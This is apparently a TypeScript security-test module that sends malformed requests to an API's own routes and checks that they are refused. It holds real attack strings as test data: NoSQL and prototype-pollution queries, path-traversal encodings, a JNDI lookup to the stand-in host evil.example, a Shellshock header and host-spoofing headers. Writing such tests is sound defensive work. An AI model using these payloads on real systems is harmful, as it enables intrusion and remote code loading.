import { goodRequest, pathOf } from '../make-request.ts';
import type { RawCall } from '../send-raw.ts';
import { type Attack, goodParts } from './attack.ts';

const wrongQueries = [
  'userId[$ne]=',
  '$where=1',
  '__proto__=1',
  '__proto__[isAdmin]=1',
  'constructor.prototype.x=1',
  'a.b=1',
  'x=1&x=2',
  '%00=1',
];

/** TRUST §5, 32 and 33: a query a call does not know is refused, whatever it would do to a driver. */
export const queryAttacks: Attack = ({ calls, cast }) =>
  calls.flatMap((call) => {
    const good = goodRequest(goodParts(call, cast));
    return wrongQueries.map((query) => ({
      title: `${call.name} · query · ${query}`,
      send: { ...good, path: `${good.path}${good.path.includes('?') ? '&' : '?'}${query}` },
      allowed: [400],
    }));
  });

const wrongKeys = ['', 'two words', 'x'.repeat(201), '\u00fcber', '\u0001'];

/** A key that is none is refused before anything is done. */
export const idempotencyKeyAttacks: Attack = ({ calls, cast }) =>
  calls
    .filter(({ door }) => door.method === 'POST')
    .flatMap((call) => {
      const good = goodRequest(goodParts(call, cast));
      return wrongKeys
        .filter((key) => !key.includes('\u0001'))
        .map((key) => ({
          title: `${call.name} · Idempotency-Key · ${JSON.stringify(key.slice(0, 20))}`,
          send: { ...good, headers: { ...good.headers, 'idempotency-key': key } },
          allowed: [400],
        }));
    });

const methods = ['PATCH', 'TRACE', 'OPTIONS', 'PROPFIND', 'PURGE', 'M-SEARCH', 'PUT', 'POST', 'DELETE'];

const forms: readonly { title: string; spoil: (path: string) => string }[] = [
  { title: 'two slashes in front', spoil: (path) => `/${path}` },
  { title: 'two slashes inside', spoil: (path) => path.replace(/(.)\//, '$1//') },
  { title: 'encoded dots', spoil: (path) => `/x/%2e%2e${path}` },
  { title: 'dots', spoil: (path) => `/x/..${path}` },
  { title: 'a parameter', spoil: (path) => path.replace(/^\/\w+/, '$&;a=b') },
  { title: 'a parameter at the end', spoil: (path) => `${path};a=b` },
  { title: 'an encoded slash', spoil: (path) => path.replace(/(.)\//, '$1%2f') },
  { title: 'a back slash', spoil: (path) => path.replace(/(.)\//, '$1\\') },
  { title: 'a NUL', spoil: (path) => `${path}%00` },
  { title: 'bytes that are no text', spoil: (path) => `${path}%ff%fe` },
  { title: 'a surrogate', spoil: (path) => `${path}%ed%a0%80` },
  { title: 'half an escape', spoil: (path) => `${path}%` },
  { title: 'capitals', spoil: (path) => path.replace(/^\/\w+/, (first) => first.toUpperCase()) },
  { title: 'a tail', spoil: (path) => `${path}/x/y` },
];

/** TRUST §5, 39: other methods and other spellings of a path reach no call. */
export const pathAttacks: Attack = ({ calls, cast }) =>
  calls.flatMap((call) => {
    const good = goodRequest(goodParts(call, cast));
    const [bare = ''] = good.path.split('?');
    const known = new Set(
      calls.filter(({ door }) => samePath(door.path, bare)).map(({ door }) => door.method as string),
    );
    const asked = (title: string, send: Partial<RawCall>, allowed: readonly number[]) => ({
      title: `${call.name} · ${title}`,
      send: { ...good, ...send },
      allowed,
    });
    return [
      ...methods
        .filter((method) => !known.has(method))
        .map((method) => asked(`method · ${method}`, { method }, [404, 405])),
      ...forms
        .map(({ title, spoil }) => ({ title, path: spoil(bare) }))
        .filter(({ path }) => path !== bare)
        .map(({ title, path }) => asked(`path · ${title}`, { path }, [400, 404, 405])),
    ];
  });

const samePath = (pattern: string, path: string): boolean =>
  new RegExp(`^${pattern.replaceAll(/:\w+/g, '[^/]+')}$`).test(path);

const hostileHeaders: Readonly<Record<string, string>> = {
  'accept-language': `${'de;q=0.1,'.repeat(500)}*`,
  'if-none-match': `${'W/"x",'.repeat(1_000)}*`,
  'if-modified-since': 'never',
  range: 'bytes=0-0,-1,5-2,999999999999-',
  'x-forwarded-for': '127.0.0.1, ::1, <script>, \u00e4',
  forwarded: 'for=127.0.0.1;host=evil.example',
  'x-forwarded-host': 'evil.example',
  'x-request-id': '\u0024{jndi:ldap://evil.example}',
  traceparent: '00-ffffffffffffffffffffffffffffffff-ffffffffffffffff-ff',
  'x-http-method-override': 'DELETE',
  'x-original-url': '/metrics',
  cookie: '__proto__=1; token=x',
  host: 'evil.example',
  referer: 'javascript:alert(1)',
  'user-agent': '() { :; }; echo',
  accept: '*/*;q=NaN',
  te: 'trailers, deflate;q=9',
};

/** Reads go on whatever the headers say, and nothing of them comes back. */
export const headerAttacks: Attack = ({ calls, cast }) =>
  calls
    .filter(({ door }) => door.method === 'GET')
    .flatMap((call) => {
      const parts = goodParts(call, cast);
      return Object.entries(hostileHeaders).map(([name, value]) => ({
        title: `${call.name} · header · ${name}`,
        send: {
          ...goodRequest(parts),
          path: pathOf(parts),
          headers: { ...goodRequest(parts).headers, [name]: value },
        },
        allowed: [200, 304, 404],
        flaw: ({ headers, text }) =>
          `${JSON.stringify(headers)}${text}`.includes('evil.example') ? 'repeats what was sent' : undefined,
      }));
    });
